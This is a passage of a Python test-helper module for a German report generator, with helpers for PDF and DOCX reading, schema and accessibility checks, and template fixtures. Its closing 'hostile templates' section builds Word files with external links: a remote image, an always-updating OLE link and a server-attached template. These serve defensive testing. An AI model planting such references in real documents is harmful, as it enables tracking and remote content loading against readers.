"""Helpers for reading what berichtsgen wrote."""

from __future__ import annotations

import functools
import posixpath
import re
import shutil
import subprocess
import zipfile
from collections import Counter
from pathlib import Path

from lxml import etree

FELDFEHLER = re.compile(
    r"Error!|Fehler!|No text of specified style|Reference source not found|Verweisquelle konnte nicht|"
    r"Kein Text mit angegebener Formatvorlage|Error: "
)
"""How field errors of Word and LibreOffice read in a PDF."""

MARKDOWN_KAPITEL = """---
titel: Listen
---

1. Erstens
   - Punkt A
     1. Unterpunkt eins
     2. Unterpunkt zwei
   - Punkt B
2. Zweitens

   Weiterer Absatz zu Zweitens.
3. Drittens

Zwischentext.

5. Fünftens

> Ein Zitat aus dem Integrationskonzept.

Begriff
: Die Erklärung des Begriffs.

Zeile eins\\
Zeile zwei mit `code` und ~~gestrichen~~.

    eingerückter Code
      zweite Zeile

```text
umzäunter Code
```
"""
"""A chapter with every Markdown construct a report uses (for the DOCX and PDF tests)."""

TESTS = Path(__file__).resolve().parent
REPO = TESTS.parent
STANDARDVORLAGE = REPO / "src" / "berichtsgen" / "vorlagen" / "standard.docx"
"""The neutral template that ships inside the package."""
W = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"


def beispiel_kopieren(ziel: Path) -> Path:
    """Copy the example project (the repository without its tooling and tests) to `ziel`."""
    shutil.copytree(
        REPO,
        ziel,
        ignore=shutil.ignore_patterns(
            "ausgabe", ".venv", ".git", "*.egg-info", "__pycache__", "tests", ".ci"
        ),
    )
    return ziel


def einstellen(projekt: Path, zeilen: str) -> None:
    """Add settings lines to the [bericht] table of a test project's berichtsgen.toml."""
    toml = projekt / "berichtsgen.toml"
    text = toml.read_text(encoding="utf-8")
    assert "\n[jahr." in text
    toml.write_text(text.replace("\n[jahr.", "\n" + zeilen.rstrip("\n") + "\n\n[jahr.", 1), encoding="utf-8")


def kontrast_als_warnung(projekt: Path) -> None:
    """Make contrast findings warnings (`barrierefreiheit = "warnung"`) for a test that builds
    with a template below WCAG AA: pandoc's reference.docx and python-docx's default template set
    Heading 3, Subtitle, Caption and Hyperlink in #4F81BD (4,0:1 on white). `tests/test_pruefung.py`
    pins that finding; the other tests use these templates for what else they bring."""
    einstellen(projekt, 'barrierefreiheit = "warnung"')


def modul_dazu(projekt: Path, name: str, code: str, kapitel: str, bloecke: list[str]) -> None:
    """Add the Python module `name` (text `code`) to a test project and its tables or charts
    (`bloecke`: their names) at the end of the chapter file `kapitel`."""
    (projekt / f"{name}.py").write_text(code, encoding="utf-8")
    toml = projekt / "berichtsgen.toml"
    toml.write_text(
        toml.read_text(encoding="utf-8").replace('["rechnen.py"]', f'["rechnen.py", "{name}.py"]'),
        encoding="utf-8",
    )
    datei = projekt / "inhalte" / "2024" / kapitel
    zusatz = "".join(f"\n```{{tabelle}} {b}\n```\n" for b in bloecke)
    datei.write_text(datei.read_text(encoding="utf-8") + zusatz, encoding="utf-8")


def seiten_text(pdf: Path) -> list[str]:
    """Return the text of each page of `pdf`, as pdftotext lays it out, with words hyphenated at
    a line end joined again (as a reader reads them)."""
    text = subprocess.run(
        ["pdftotext", "-layout", str(pdf), "-"], capture_output=True, text=True, check=True
    ).stdout
    text = re.sub(r"(\w)[-\u00ad]\n[ \t]*([a-zäöüß])", r"\1\2", text)
    return text.split("\f")[:-1]


def woerter_mit_lage(pdf: Path) -> list[tuple[float, list[tuple[str, float, float, float]]]]:
    """Return each page of a PDF as (width, words), a word as (text, x0, x1, y0) in points, as
    poppler's `pdftotext -bbox` finds them."""
    html = subprocess.run(
        ["pdftotext", "-bbox", str(pdf), "-"], capture_output=True, text=True, check=True
    ).stdout
    wurzel = etree.fromstring(html.encode(), etree.XMLParser(recover=True))
    seiten = []
    for seite in wurzel.iter("{*}page"):
        woerter = [
            (w.text or "", float(w.get("xMin")), float(w.get("xMax")), float(w.get("yMin")))
            for w in seite.iter("{*}word")
        ]
        seiten.append((float(seite.get("width")), woerter))
    return seiten


def einzeilig(text: str) -> str:
    return re.sub(r"\s+", " ", text)


def nach_seitenzahl(seiten: list[str]) -> dict[str, str]:
    """Map the page number printed in each page's footer ("Seite 7", "Seite ii") to its text."""
    ergebnis = {}
    for text in seiten:
        gedruckt = re.findall(r"Seite ([0-9ivxlc]+)\s*$", text.rstrip())
        if gedruckt:
            ergebnis[gedruckt[-1]] = einzeilig(text)
    return ergebnis


SEITENZAHL = re.compile(  # "7", "Seite 7", "Seite ii von iii", "Page 2 of 4", "3/4", or a number set apart
    r"(?:^|\b(?:Seite|Page)\s+|\s{3})([0-9]+|[ivxlc]+)(?:\s*(?:von|of|/)\s*(?:[0-9]+|[ivxlc]+))?$"
)


def gedruckte_seitenzahlen(seiten: list[str]) -> list[str | None]:
    """The page number each page prints in its last line (None where there is none)."""
    zahlen = []
    for text in seiten:
        zeilen = [z.strip() for z in text.splitlines() if z.strip()]
        treffer = SEITENZAHL.search(zeilen[-1]) if zeilen else None
        zahlen.append(treffer.group(1) if treffer else None)
    return zahlen


def docx_xml(pfad: Path, teil: str = "word/document.xml") -> etree._Element:
    """Parse one part of a Word file."""
    with zipfile.ZipFile(pfad) as z:
        return etree.fromstring(z.read(teil))


def fusszeilen_der_abschnitte(docx: Path) -> list[str]:
    """The footer part of each section of a Word file, in document order."""
    rels = docx_xml(docx, "word/_rels/document.xml.rels")
    ziele = {r.get("Id"): "word/" + r.get("Target") for r in rels}
    r_id = "{http://schemas.openxmlformats.org/officeDocument/2006/relationships}id"
    return [
        ziele[v.get(r_id)]
        for s in docx_xml(docx).iter(f"{W}sectPr")
        for v in s.iter(f"{W}footerReference")
        if v.get(f"{W}type") == "default"
    ]


def absatz_texte(wurzel: etree._Element) -> list[str]:
    """Return the visible text of every paragraph (field instructions excluded)."""
    return ["".join(t.text or "" for t in p.iter(f"{W}t")) for p in wurzel.iter(f"{W}p")]


# --- Word's schema rules ---------------------------------------------------------------------

SCHEMAS = Path(__file__).parent / "schemas"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PR = "{http://schemas.openxmlformats.org/package/2006/relationships}"
WP = "{http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing}"
# Namespaces ECMA-376 defines; anything else is Word's extension markup (mc:Ignorable), left aside
STANDARD = {
    W[1:-1],
    R,
    WP[1:-1],
    "http://schemas.openxmlformats.org/drawingml/2006/main",
    "http://schemas.openxmlformats.org/drawingml/2006/picture",
    "http://schemas.openxmlformats.org/officeDocument/2006/math",
    "http://www.w3.org/XML/1998/namespace",
}
TEILE = ("document", "styles", "numbering", "footnotes", "settings", "header", "footer")


XSD = "{http://www.w3.org/2001/XMLSchema}"


def schema_laden() -> etree.XMLSchema:
    """Load wml.xsd with run properties in Word's fixed order.

    The transitional schema lets w:rPr children come in any order; Word reads them in the order of
    the first edition and drops or rejects the rest, so the test holds our files to that order.
    """
    baum = etree.parse(str(SCHEMAS / "wml.xsd"))
    gruppe = baum.find(f"{XSD}group[@name='EG_RPrBase']")
    auswahl = gruppe.find(f"{XSD}choice")
    auswahl.tag = f"{XSD}sequence"
    for element in auswahl:
        element.set("minOccurs", "0")
    for verweis in baum.iter(f"{XSD}group"):
        if verweis.get("ref") == "EG_RPrBase":
            verweis.attrib.pop("maxOccurs", None)
    return etree.XMLSchema(baum)


def _nur_standard(wurzel: etree._Element) -> etree._Element:
    for e in list(wurzel.iter()):
        if not isinstance(e.tag, str):
            continue
        if etree.QName(e).namespace not in STANDARD and e.getparent() is not None:
            e.getparent().remove(e)
            continue
        for a in list(e.attrib):
            ns = etree.QName(a).namespace
            if ns and ns not in STANDARD:
                del e.attrib[a]
    return wurzel


def pruefen(docx: Path, schema: etree.XMLSchema) -> list[str]:
    """Return every fault found in `docx` (empty when Word would open it cleanly)."""
    fehler: list[str] = []
    docpr: Counter[str] = Counter()
    with zipfile.ZipFile(docx) as z:
        namen = set(z.namelist())
        for name in sorted(namen):
            if not (name.startswith("word/") and name.endswith(".xml")):
                continue
            basis = posixpath.basename(name)
            if not basis.startswith(TEILE):
                continue
            wurzel = etree.fromstring(z.read(name))
            docpr.update(d.get("id") for d in wurzel.iter(f"{WP}docPr"))
            marken = Counter(b.get(f"{W}id") for b in wurzel.iter(f"{W}bookmarkStart"))
            fehler += [f"{name}: Textmarken-ID {i} doppelt" for i, n in marken.items() if n > 1]
            if not schema.validate(_nur_standard(wurzel)):
                fehler += [f"{name}:{e.line}: {e.message}" for e in schema.error_log]
            rels = f"word/_rels/{basis}.rels"
            ids = {}
            if rels in namen:
                for rel in etree.fromstring(z.read(rels)).iter(f"{PR}Relationship"):
                    ids[rel.get("Id")] = rel
                    ziel = posixpath.normpath(posixpath.join("word", rel.get("Target")))
                    if rel.get("TargetMode") != "External" and ziel not in namen:
                        fehler.append(f"{rels}: Ziel {ziel} fehlt")
            for e in wurzel.iter():
                for attr, wert in e.attrib.items():
                    if etree.QName(attr).namespace == R and wert not in ids:
                        fehler.append(f"{name}: Beziehung {wert} fehlt")
    fehler += [f"Zeichnungs-ID {i} doppelt" for i, n in docpr.items() if n > 1]
    return fehler


# --- accessibility, as a reader's assistive technology needs it ----------------------------------

WP = "{http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing}"


def docx_maengel(docx: Path) -> list[str]:
    """Return the accessibility faults of a Word file (empty when there are none)."""
    maengel = []
    with zipfile.ZipFile(docx) as z:
        koerper = etree.fromstring(z.read("word/document.xml"))
        styles = etree.fromstring(z.read("word/styles.xml"))
        kern = etree.fromstring(z.read("docProps/core.xml"))
    for bild in koerper.iter(f"{WP}docPr"):
        if not (bild.get("descr") or "").strip():
            maengel.append(f"Bild {bild.get('name')} ohne Beschreibung")
        if bild.get("title"):
            maengel.append(
                f"Bild {bild.get('name')} mit Titel (LibreOffice setzt Titel und Beschreibung zusammen)"
            )
    for tabelle in koerper.iter(f"{W}tbl"):
        if tabelle.find(f"{W}tr/{W}trPr/{W}tblHeader") is None:
            maengel.append("Tabelle ohne markierte Kopfzeile")
    ebenen = {}
    for stil in styles.iter(f"{W}style"):
        ebene = stil.find(f"{W}pPr/{W}outlineLvl")
        if ebene is not None and int(ebene.get(f"{W}val")) < 9:
            ebenen[stil.get(f"{W}styleId")] = int(ebene.get(f"{W}val")) + 1
    folge = [ebenen[s.get(f"{W}val")] for s in koerper.iter(f"{W}pStyle") if s.get(f"{W}val") in ebenen]
    if folge and folge[0] != 1:
        maengel.append(f"erste Überschrift hat Ebene {folge[0]}")
    maengel += [
        f"Überschrift springt von {a} auf {b}" for a, b in zip(folge, folge[1:], strict=False) if b > a + 1
    ]
    dc = "{http://purl.org/dc/elements/1.1/}"
    if not (kern.findtext(f"{dc}title") or "").strip():
        maengel.append("kein Dokumenttitel")
    lang = styles.find(f"{W}docDefaults/{W}rPrDefault/{W}rPr/{W}lang")
    if lang is None or not lang.get(f"{W}val", "").startswith("de"):
        maengel.append("keine Dokumentsprache de")
    # empty paragraphs used as spacing: counted within the body and within each table cell (the
    # empty cells of a row are no spacing)
    for behaelter in [koerper.find(f"{W}body"), *koerper.iter(f"{W}tc")]:
        leer = 0
        for p in behaelter:
            if p.tag != f"{W}p":
                leer = 0
                continue
            inhalt = "".join(t.text or "" for t in p.iter(f"{W}t")).strip()
            hat_mehr = next(p.iter(f"{W}drawing", f"{W}br", f"{W}sectPr", f"{W}fldChar"), None) is not None
            leer = leer + 1 if not inhalt and not hat_mehr else 0
            if leer > 2 and "mehr als zwei leere Absätze hintereinander" not in maengel:
                maengel.append("mehr als zwei leere Absätze hintereinander")
    return maengel


def pdf_maengel(pdf_pfad: Path) -> list[str]:
    """Return the PDF/UA-1 and PDF/A-2 faults a machine can see (empty when there are none)."""
    import pikepdf

    maengel = []
    with pikepdf.open(pdf_pfad) as pdf:
        wurzel = pdf.Root
        if (
            not (wurzel.get("/MarkInfo") and wurzel.MarkInfo.get("/Marked"))
            or "/StructTreeRoot" not in wurzel
        ):
            return ["nicht getaggt"]
        if not str(wurzel.get("/Lang", "")).startswith("de"):
            maengel.append("Sprache nicht de")
        if not wurzel.get("/ViewerPreferences", {}).get("/DisplayDocTitle"):
            maengel.append("Titel nicht als Fenstertitel")
        meta = pdf.open_metadata()
        if not meta.get("dc:title"):
            maengel.append("kein Titel")
        if meta.get("pdfuaid:part") != "1":
            maengel.append("keine PDF/UA-Kennung")
        if meta.get("pdfaid:part") != "2":
            maengel.append("keine PDF/A-2-Kennung")
        if "/Outlines" not in wurzel or not wurzel.Outlines.get("/First"):
            maengel.append("keine Lesezeichen")
        rollen = wurzel.StructTreeRoot.get("/RoleMap", {})
        elemente, stapel = [], [wurzel.StructTreeRoot]
        while stapel:
            e = stapel.pop(0)
            kinder = e.get("/K")
            for k in (
                (kinder if isinstance(kinder, pikepdf.Array) else [kinder]) if kinder is not None else []
            ):
                if isinstance(k, pikepdf.Dictionary) and "/S" in k:
                    elemente.append(k)
                    stapel.append(k)

        def rolle(e) -> str:
            return str(rollen.get(str(e.S), e.S))

        for e in elemente:
            if rolle(e) == "/Figure" and not str(e.get("/Alt", "")).strip():
                maengel.append("Abbildung ohne Alternativtext")
            if rolle(e) == "/TH":
                attribute = e.get("/A")
                attribute = (
                    attribute if isinstance(attribute, pikepdf.Array) else [attribute] if attribute else []
                )
                if not any("/Scope" in a for a in attribute if isinstance(a, pikepdf.Dictionary)):
                    maengel.append("Tabellenkopfzelle ohne Scope")
        if any(rolle(e) == "/Table" for e in elemente) and not any(rolle(e) == "/TH" for e in elemente):
            maengel.append("Tabelle ohne Kopfzellen")
        for seite in pdf.pages:
            schriften = seite.get("/Resources", {}).get("/Font", {})
            for name in schriften.keys():
                schrift = schriften[name]
                beschreibung = schrift.get("/FontDescriptor")
                if beschreibung is None and "/DescendantFonts" in schrift:
                    beschreibung = schrift.DescendantFonts[0].get("/FontDescriptor")
                if beschreibung is not None and not any(
                    k in beschreibung for k in ("/FontFile", "/FontFile2", "/FontFile3")
                ):
                    maengel.append(f"Schrift {schrift.get('/BaseFont')} nicht eingebettet")
    return sorted(set(maengel))


# --- golden files ------------------------------------------------------------------------------

_FLUECHTIG = re.compile(r'(r:id|r:embed|w:rsid\w*)="[^"]*"')


def golden_xml(wurzel: etree._Element) -> str:
    """Pretty-print a part for a golden file: attributes sorted, volatile relationship ids dropped."""
    wurzel = etree.fromstring(etree.tostring(wurzel))
    for e in wurzel.iter():
        if isinstance(e.tag, str):
            attribute = sorted(e.attrib.items())
            e.attrib.clear()
            e.attrib.update(attribute)
    text = etree.tostring(wurzel, pretty_print=True, encoding="unicode")
    return _FLUECHTIG.sub(r'\1="…"', text)


def nummerierte_ueberschriften(quelle: Path, ziel: Path) -> None:
    """Write a copy of the template `quelle` whose Heading 1 style is numbered ("1.", "2." …)."""
    from docx import Document
    from docx.oxml import parse_xml

    doc = Document(str(quelle))
    numbering = doc.part.numbering_part.element
    w = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    heading = doc.styles["Heading 1"]
    abstrakt = parse_xml(
        f'<w:abstractNum {w} w:abstractNumId="90"><w:multiLevelType w:val="multilevel"/>'
        f'<w:lvl w:ilvl="0"><w:start w:val="1"/><w:numFmt w:val="decimal"/><w:pStyle w:val="{heading.style_id}"/>'
        '<w:lvlText w:val="%1."/><w:lvlJc w:val="left"/></w:lvl></w:abstractNum>'
    )
    erste = numbering.find(f"{W}num")
    if erste is not None:
        erste.addprevious(abstrakt)
    else:
        numbering.append(abstrakt)
    numbering.append(parse_xml(f'<w:num {w} w:numId="90"><w:abstractNumId w:val="90"/></w:num>'))
    ppr = heading.element.get_or_add_pPr()
    num_pr = ppr.get_or_add_numPr()
    num_pr.get_or_add_numId().val = 90
    doc.save(str(ziel))


def vorlage_mit_logo(quelle: Path, ziel: Path) -> None:
    """Write a copy of `quelle` with a logo without alternative text on the title page."""
    import io

    from docx import Document
    from PIL import Image

    bild = io.BytesIO()
    Image.new("RGB", (200, 80), (31, 78, 121)).save(bild, format="PNG")
    bild.seek(0)
    doc = Document(str(quelle))
    doc.paragraphs[0].insert_paragraph_before().add_run().add_picture(bild, width=914400)
    doc.save(str(ziel))


def vorlage_mit_feldern(quelle: Path, ziel: Path) -> None:
    """Write a copy of `quelle` whose header has STYLEREF fields (one with Word's cached error text)
    and whose footer reads "Seite PAGE von NUMPAGES", as many corporate templates do."""
    from docx import Document
    from docx.oxml import parse_xml

    w = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'

    feld = _feld
    doc = Document(str(quelle))
    sektion = doc.sections[0]
    kopf = sektion.header._element
    untertitel = feld('STYLEREF "Subtitle" \\* MERGEFORMAT', "Error! No text of specified style in document.")
    kapitel = feld('STYLEREF "Heading 1"', "Kapitel")
    trenner = '<w:r><w:t xml:space="preserve"> – </w:t></w:r>'
    kopf.append(parse_xml(f"<w:p {w}>{untertitel}{trenner}{kapitel}</w:p>"))
    fuss = sektion.footer._element
    for p in list(fuss):
        fuss.remove(p)
    fuss.append(
        parse_xml(
            f'<w:p {w}><w:r><w:t xml:space="preserve">Seite </w:t></w:r>{feld("PAGE", "1")}'
            f'<w:r><w:t xml:space="preserve"> von </w:t></w:r>{feld("NUMPAGES", "37")}</w:p>'
        )
    )
    doc.save(str(ziel))


def vorlage_mit_rechter_seitenzahl(quelle: Path, ziel: Path) -> None:
    """Write a copy of `quelle` whose footer, in the template's Footer style, reads "Stadt
    Musterstadt", then after two tabs "Seite PAGE von NUMPAGES": the page number at the style's
    right tab stop, as Word's own footer layout sets it."""
    from docx import Document
    from docx.oxml import parse_xml

    w = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    doc = Document(str(quelle))
    fuss = doc.sections[0].footer._element
    for p in list(fuss):
        fuss.remove(p)
    tab = "<w:r><w:tab/></w:r>"
    fuss.append(
        parse_xml(
            f'<w:p {w}><w:pPr><w:pStyle w:val="{doc.styles["Footer"].style_id}"/></w:pPr>'
            f"<w:r><w:t>Stadt Musterstadt</w:t></w:r>{tab}{tab}"
            f'<w:r><w:t xml:space="preserve">Seite </w:t></w:r>{_feld("PAGE", "1")}'
            f'<w:r><w:t xml:space="preserve"> von </w:t></w:r>{_feld("NUMPAGES", "37")}</w:p>'
        )
    )
    doc.save(str(ziel))


def _feld(code: str, ergebnis: str) -> str:
    return (
        f'<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> {code} </w:instrText></w:r>'
        f'<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t xml:space="preserve">{ergebnis}</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


def vorlage_mit_fussbild(quelle: Path, ziel: Path) -> None:
    """Write a copy of `quelle` whose footer has a picture anchored to the page (2 cm from the left,
    27.5 cm from the top), as corporate templates place a footer band or logo."""
    import io

    from docx import Document
    from PIL import Image

    bild = io.BytesIO()
    Image.new("RGB", (400, 40), (31, 78, 121)).save(bild, format="PNG")
    bild.seek(0)
    doc = Document(str(quelle))
    fuss = doc.sections[0].footer
    lauf = fuss.paragraphs[0].add_run()
    lauf.add_picture(bild, width=3600000)
    inline = lauf._r.find(f".//{WP}inline")
    wp, a = WP[1:-1], "http://schemas.openxmlformats.org/drawingml/2006/main"
    anker = etree.fromstring(
        f'<wp:anchor xmlns:wp="{wp}" xmlns:a="{a}" distT="0" distB="0" distL="0" distR="0" simplePos="0" '
        'relativeHeight="1" behindDoc="0" locked="0" layoutInCell="1" allowOverlap="1">'
        '<wp:simplePos x="0" y="0"/><wp:positionH relativeFrom="page"><wp:posOffset>720000</wp:posOffset>'
        '</wp:positionH><wp:positionV relativeFrom="page"><wp:posOffset>9900000</wp:posOffset></wp:positionV>'
        "</wp:anchor>"
    )
    for kind in inline:
        if etree.QName(kind).localname == "docPr":
            anker.append(etree.fromstring(f'<wp:wrapNone xmlns:wp="{wp}"/>'))
            kind.set("descr", "Farbband der Fußzeile")
        anker.append(kind)
    inline.getparent().replace(inline, anker)
    doc.save(str(ziel))


# --- table words against their columns, by the real font ---------------------------------------
# Measured with Pillow's FreeType binding, independently of berichtsgen's own measurement.


@functools.lru_cache(maxsize=64)
def _schriftdatei(name: str, fett: bool) -> str:
    stil = "bold" if fett else "regular"
    return subprocess.run(
        ["fc-match", "-f", "%{file}", f"{name}:{stil}"], capture_output=True, text=True, check=True
    ).stdout.strip()


_GEMESSEN: dict[tuple[str, str], float] = {}


def wortbreite_pt(wort: str, name: str, punkt: float, fett: bool) -> float:
    """Advance width of `wort` in points (Pillow, measured at 1000 px per em)."""
    from PIL import ImageFont

    datei = _schriftdatei(name, fett)
    if (datei, wort) not in _GEMESSEN:
        _GEMESSEN[(datei, wort)] = ImageFont.truetype(datei, 1000).getlength(wort) / 1000
    return _GEMESSEN[(datei, wort)] * punkt


def _wert(e, pfad: str, attr: str = "val"):
    gefunden = e.find(pfad, {"w": W[1:-1]}) if e is not None else None
    return gefunden.get(f"{W}{attr}") if gefunden is not None else None


def zu_breite_woerter(docx: Path) -> list[str]:
    """Return every token of a table cell wider than its column, as "Tabelle N: „wort“ 31,2 > 28,0 pt".

    Tokens are split where a line may break: spaces, soft hyphens, zero-width spaces, and after
    "-", "–" and "/". Sizes and fonts are resolved from run, paragraph style (basedOn), table style,
    document defaults and theme; cell margins from the table and its style (Word's 0.19 cm else).
    """
    dok, styles = docx_xml(docx), docx_xml(docx, "word/styles.xml")
    with zipfile.ZipFile(docx) as z:
        thema = (
            etree.fromstring(z.read("word/theme/theme1.xml"))
            if "word/theme/theme1.xml" in z.namelist()
            else None
        )
    a = "{http://schemas.openxmlformats.org/drawingml/2006/main}"
    minor = (
        thema.find(f".//{a}minorFont/{a}latin").get("typeface") if thema is not None else "Liberation Sans"
    )
    stile = {s.get(f"{W}styleId"): s for s in styles.iter(f"{W}style")}
    vorgabe = styles.find(f"{W}docDefaults/{W}rPrDefault/{W}rPr")

    def schrift(rfonts) -> str | None:
        if rfonts is None:
            return None
        if rfonts.get(f"{W}asciiTheme"):
            return minor
        return rfonts.get(f"{W}ascii")

    def aus_stil(sid, was):
        for _ in range(20):
            stil = stile.get(sid)
            if stil is None:
                return None
            e = stil.find(f"{W}rPr/{W}{was}")
            if e is not None:
                return schrift(e) if was == "rFonts" else int(e.get(f"{W}val"))
            sid = _wert(stil, "w:basedOn")
        return None

    standard_sz = int(_wert(vorgabe, "w:sz") or 20)
    standard_font = schrift(vorgabe.find(f"{W}rFonts") if vorgabe is not None else None) or minor
    befunde = []
    for n, tbl in enumerate(dok.iter(f"{W}tbl"), 1):
        raster = [int(g.get(f"{W}w")) for g in tbl.iter(f"{W}gridCol")]
        tstil = _wert(tbl, "w:tblPr/w:tblStyle")
        raender = {"left": 108, "right": 108}
        for quelle in (stile.get(tstil), tbl):
            mar = quelle.find(f"{W}tblPr/{W}tblCellMar") if quelle is not None else None
            for seite in mar if mar is not None else []:
                name = etree.QName(seite).localname.replace("start", "left").replace("end", "right")
                if name in raender:
                    raender[name] = int(seite.get(f"{W}w"))
        for tr in tbl.iter(f"{W}tr"):
            spalte = 0
            for tc in tr.findall(f"{W}tc"):
                breite = int(_wert(tc, "w:tcPr/w:gridSpan") or 1)
                verfuegbar = (sum(raster[spalte : spalte + breite]) - raender["left"] - raender["right"]) / 20
                spalte += breite
                for p in tc.iter(f"{W}p"):
                    pstil = _wert(p, "w:pPr/w:pStyle")
                    einzug = int(_wert(p, "w:pPr/w:ind", "left") or 0) / 20
                    for r in p.iter(f"{W}r"):
                        text = "".join(t.text or "" for t in r.iter(f"{W}t"))
                        sz = _wert(r, "w:rPr/w:sz")
                        halb = (
                            int(sz) if sz else aus_stil(pstil, "sz") or aus_stil(tstil, "sz") or standard_sz
                        )
                        font = (
                            schrift(r.find(f"{W}rPr/{W}rFonts")) or aus_stil(pstil, "rFonts") or standard_font
                        )
                        fett = r.find(f"{W}rPr/{W}b") is not None
                        for wort in re.split(r"[\s\u00ad\u200b]+|(?<=[-–/])", text):
                            if len(wort) < 2:
                                continue
                            b = wortbreite_pt(wort, font, halb / 2, fett)
                            if b > verfuegbar - einzug + 0.5:
                                befunde.append(
                                    f"Tabelle {n}: „{wort}“ {b:.1f} > {verfuegbar - einzug:.1f} pt"
                                )
    return befunde


# --- pages a reader would call wasted ------------------------------------------------------------

BEIWERK = re.compile(
    r"^(Quelle: |Stichtag: |Zeichenerklärung|Umsetzungsstand: |Anmerkung|(Tabelle|Abbildung) [A-Z]?\.?\d+: |\d+\) )"
)
"""How a caption, source line, legend or note begins."""


def _koerper(seiten: list[str]) -> list[list[str]]:
    """The body lines of each page: without the running header and the page number line."""
    zeilen_je_seite = [[z.strip() for z in s.splitlines() if z.strip()] for s in seiten]
    erste = Counter(z[0] for z in zeilen_je_seite if z)
    kopf = {text for text, n in erste.items() if n > len(seiten) / 2}
    return [
        [z for z in zeilen if z not in kopf and not re.fullmatch(r"(Seite )?[0-9ivxlc]+( von \S+)?", z)]
        for zeilen in zeilen_je_seite
    ]


def getrenntes_beiwerk(seiten: list[str]) -> list[str]:
    """Return where a table's parts were torn apart by a page break: a page that begins with a
    source line, legend or note (its table is on the page before) or ends with a table caption."""
    befunde = []
    for nummer, koerper in enumerate(_koerper(seiten), 1):
        if koerper and BEIWERK.match(koerper[0]) and not koerper[0].startswith(("Tabelle", "Abbildung")):
            befunde.append(f"Seite {nummer} beginnt mit „{koerper[0]}“")
        # a table caption at the foot of a page (not an entry of the list of tables)
        if koerper and re.match(r"Tabelle [A-Z]?\.?\d+: ", koerper[-1]) and "...." not in koerper[-1]:
            befunde.append(f"Seite {nummer} endet mit „{koerper[-1]}“")
    return befunde


def seiten_nur_mit_beiwerk(pdf: Path, seiten: list[str]) -> list[int]:
    """Return the numbers (from 1) of pages whose body holds nothing but a caption, a source line,
    a legend or a note (with their wrapped lines): what is left when its table or figure moved on.

    The running header (a first line most pages share) and the page number line are not body; a
    page with a picture (a chart) is not such a page.
    """
    import pikepdf

    with pikepdf.open(pdf) as dok:
        mit_bild = [bool(seite.get_images()) for seite in dok.pages]
    verwaist = []
    for nummer, koerper in enumerate(_koerper(seiten), 1):
        if koerper and BEIWERK.match(koerper[0]) and len(koerper) <= 4 and not mit_bild[nummer - 1]:
            verwaist.append(nummer)
    return verwaist


# --- hostile templates ---------------------------------------------------------------------------

_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_REL = "http://schemas.openxmlformats.org/package/2006/relationships"


def _zip_umschreiben(quelle: Path, ziel: Path, aendern: dict, neu: dict | None = None) -> None:
    """Copy an Office package (.docx, .pptx), passing the text of the parts named in `aendern` through their function and
    adding the parts in `neu` (name → bytes)."""
    with zipfile.ZipFile(quelle) as z:
        teile = {n: z.read(n) for n in z.namelist()}
    for name, f in aendern.items():
        teile[name] = f(teile.get(name, b"").decode("utf-8")).encode("utf-8")
    teile.update(neu or {})
    with zipfile.ZipFile(ziel, "w", zipfile.ZIP_DEFLATED) as z:
        for name, daten in teile.items():
            z.writestr(name, daten)


def _rel(text: str, rid: str, typ: str, ziel: str) -> str:
    if not text:
        text = f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{_REL}"></Relationships>'
    eintrag = f'<Relationship Id="{rid}" Type="{_R}/{typ}" Target="{ziel}" TargetMode="External"/>'
    return text.replace("</Relationships>", eintrag + "</Relationships>")


def _in_den_koerper(xml: str) -> str:
    """Insert `xml` as the first paragraph content of document.xml's body."""
    return lambda text: text.replace("<w:body>", "<w:body>" + xml, 1)


_FREMDES_BILD = (
    '<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing">'
    '<wp:extent cx="914400" cy="365760"/><wp:docPr id="900" name="Logo" descr="Logo"/>'
    '<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">'
    '<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
    '<pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture">'
    '<pic:nvPicPr><pic:cNvPr id="900" name="logo.png"/><pic:cNvPicPr/></pic:nvPicPr>'
    f'<pic:blipFill><a:blip xmlns:r="{_R}" r:link="rIdFremd1"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill>'
    '<pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="914400" cy="365760"/></a:xfrm>'
    '<a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData></a:graphic>'
    "</wp:inline></w:drawing></w:r></w:p>"
)
_OLE = (
    '<w:p><w:r><w:object xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office">'
    '<v:shape id="_x0000_i1025" type="#_x0000_t75" style="width:100pt;height:50pt"/>'
    f'<o:OLEObject xmlns:r="{_R}" Type="Link" ProgID="Excel.Sheet.12" ShapeID="_x0000_i1025" '
    'DrawAspect="Content" r:id="rIdFremd3" UpdateMode="Always"/></w:object></w:r></w:p>'
)


def _feldabsatz(code: str, ergebnis: str) -> str:
    return (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'<w:r><w:instrText xml:space="preserve"> {code} </w:instrText></w:r>'
        f'<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>{ergebnis}</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def _vorlage_anhaengen(text: str) -> str:
    """Attach a template on a server in settings.xml (declaring r: where it is not yet)."""
    if 'xmlns:r="' not in text:
        text = text.replace("<w:settings ", f'<w:settings xmlns:r="{_R}" ', 1)
    return text.replace("</w:settings>", '<w:attachedTemplate r:id="rIdFremd2"/></w:settings>')


def vorlage_mit_aussenverweisen(quelle: Path, ziel: Path) -> None:
